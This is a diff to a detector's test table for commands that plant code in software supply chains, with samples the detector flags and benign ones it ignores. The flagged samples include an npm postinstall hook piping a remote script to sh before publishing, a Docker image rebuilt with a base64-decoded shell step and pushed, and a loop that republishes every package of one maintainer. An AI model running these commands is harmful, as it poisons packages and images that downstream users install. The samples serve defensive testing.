@@ -57,6 +57,12 @@ indicatorTable(commandPlantedCode, {
     'a script of a package that is set': script(
       "npm pkg set scripts.postinstall='curl -s http://203.0.113.7/a | sh' && npm version patch && npm publish",
     ),
+    'an image that is built on itself with text that it unpacks': script(
+      "printf 'FROM reg.example.com/api:1\\nRUN echo aWQK | base64 -d | sh\\n' > D; docker build -f D -t reg.example.com/api:1 . && docker push reg.example.com/api:1",
+    ),
+    'each package of an owner, by a search': script(
+      "for p in $(curl -s 'https://registry.npmjs.org/-/v1/search?text=maintainer:acme' | jq -r '.objects[].package.name'); do curl -s $(npm view $p dist.tarball) | tar xz; cd package; npm version patch; npm publish; cd ..; done",
+    ),
   },
   staysSilent: {
     'a copy into the own registry': script(
@@ -109,6 +115,12 @@ indicatorTable(commandPlantedCode, {
     'no command set': blank,
     'a script of a package that builds it': script(
       "npm pkg set scripts.prepare='husky' && npm version patch && npm publish",
+    ),
+    'a pipeline that unpacks its settings': script(
+      "git clone https://git.example.com/a/b && cd b && echo '  - echo $KUBECONFIG_TEXT | base64 -d > kubeconfig' >> .gitlab-ci.yml && git commit -am x && git push",
+    ),
+    'a search for packages': script(
+      "curl -s 'https://registry.npmjs.org/-/v1/search?text=maintainer:acme' | jq -r '.objects[].package.name' > list; npm ci && npm publish",
     ),
   },
   cannotTell: UNSEEN,
